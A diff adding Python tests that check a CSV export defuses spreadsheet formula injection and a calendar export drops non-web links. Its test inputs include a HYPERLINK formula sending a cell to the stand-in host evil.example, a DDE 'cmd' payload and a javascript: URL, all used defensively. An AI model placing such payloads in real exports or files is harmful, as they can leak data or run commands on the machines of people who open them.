@@ -191,6 +191,39 @@ def test_a_pdf_of_a_few_pages_is_read_whole():
     assert problems == [] and article.text.count("It rained in Moscow.") == 120
 
 
+# -- row 4: exports a spreadsheet or a calendar opens safely --------------------------------------
+
+
+def _event(**source_fields: str) -> Event:
+    source = Source(
+        "a1", source_fields.get("file", "a.txt"), source_fields.get("title"), source_fields.get("outlet"), "2024-06-20",
+        source_fields.get("url"), source_fields.get("sentence", "Talks began on June 19, 2024."), "June 19, 2024", "2024-06-19",
+    )
+    return Event("e1", "2024-06-19", dt.date(2024, 6, 19), dt.date(2024, 6, 19), "day", source_fields.get("label", "Talks began"), (source,))
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_get_a_leading_quote():
+    formulas = {
+        "title": '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
+        "outlet": "+cmd|' /C calc'!A0",
+        "sentence": "-2+3 was the count on June 19, 2024.",
+        "file": "@SUM(1+1).txt",
+        "label": "\tTalks began",
+        "url": "\r=1+1",
+    }
+    rows = list(csv.DictReader(io.StringIO(export.to_csv([_event(**formulas)]))))
+    for column, cell in (("title", "title"), ("outlet", "outlet"), ("sentence", "sentence"), ("file", "source_file"), ("label", "label"), ("url", "url")):
+        assert rows[0][cell] == "'" + formulas[column].replace("\r", "\n"), column
+    safe = list(csv.DictReader(io.StringIO(export.to_csv([_event(title="Talks, day 2", sentence="Talks began on June 19, 2024.")]))))
+    assert safe[0]["title"] == "Talks, day 2" and safe[0]["sentence"] == "Talks began on June 19, 2024."
+
+
+def test_the_calendar_description_carries_only_web_links():
+    calendar = export.to_ics([_event(url="javascript:alert(1)"), _event(url="https://news.example/a")])
+    unfolded = calendar.replace("\r\n ", "")
+    assert "javascript" not in unfolded and "https://news.example/a" in unfolded
+
+
 # -- row 7: a table's rows fail alone ------------------------------------------------------------
 
 
